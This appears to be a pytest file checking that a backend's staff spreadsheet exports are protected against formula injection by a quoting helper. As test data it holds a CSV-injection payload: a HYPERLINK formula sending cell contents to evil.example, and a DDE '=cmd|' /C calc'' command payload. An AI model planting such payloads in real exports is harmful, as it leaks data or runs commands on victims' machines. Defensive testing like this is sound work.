"""Staff exports are formula-safe: text that would start a formula is written with a leading `'`, in the
case export and the follow-up statistics alike, and every workbook's rows go through one helper."""

from __future__ import annotations

import io
import re
from pathlib import Path

import openpyxl
import pytest
from fastapi.testclient import TestClient
from sqlalchemy.orm import Session

from backend.services import cases
from backend.services.spreadsheet import formula_safe
from tests import factories
from tests.backend.followup.test_stats import _world as stats_world
from tests.backend.security.test_staff_auth import sign_in
from tests.backend.services.case_world import make_world as _world
from tests.backend.services.case_world import register_case as _register

ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"Open")'


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1"])
def test_text_that_starts_a_formula_gets_a_quote(text: str) -> None:
    assert formula_safe(text) == "'" + text


@pytest.mark.parametrize("value", ["plain", "a=b", "", 5, -3, 0.5, None])
def test_everything_else_is_left_alone(value: object) -> None:
    assert formula_safe(value) == value


def _cells(content: bytes, sheet: str) -> list[openpyxl.cell.cell.Cell]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for row in book[sheet].iter_rows() for cell in row if cell.value is not None]


def test_the_case_export_keeps_a_summary_starting_with_equals_as_text(
    client: TestClient, db: Session
) -> None:
    w = _world(db)
    case = _register(db, w)
    cases.do_close_case(db, case=case, staff_id=w.nurse.id, summary=ATTACK)
    db.commit()
    sign_in(client, "agent1")
    export = client.get("/staff/cases/export.xlsx")
    assert export.status_code == 200
    cells = _cells(export.content, "Cases")
    assert all(cell.data_type != "f" for cell in cells)
    assert "'" + ATTACK in [cell.value for cell in cells]


def test_the_statistics_export_keeps_a_department_name_starting_with_equals_as_text(
    client: TestClient, db: Session
) -> None:
    cardio, _ = stats_world(db)
    cardio.name = "=cmd|' /C calc'!A0"
    factories.staff(db, username="nurse1", departments=[cardio])
    db.commit()
    sign_in(client, "nurse1")
    response = client.get("/staff/stats.xlsx", params={"start": "2026-11-01", "end": "2026-12-01"})
    assert response.status_code == 200
    cells = _cells(response.content, "Follow-up")
    assert all(cell.data_type != "f" for cell in cells)
    assert "'=cmd|' /C calc'!A0" in [cell.value for cell in cells]


def test_every_workbook_writes_its_rows_through_the_helper() -> None:
    backend = Path(__file__).resolve().parents[3] / "backend"
    writers = [
        path
        for path in backend.rglob("*.py")
        if "openpyxl" in path.read_text(encoding="utf-8") and path.name != "spreadsheet.py"
    ]
    assert writers, "no exports found"
    for path in writers:
        source = path.read_text(encoding="utf-8")
        assert not re.search(r"\.append\(\s*\[", source), f"{path.name} appends a row around the helper"
        assert not re.search(r"\.value\s*=|\.cell\(", source), f"{path.name} writes a cell around the helper"
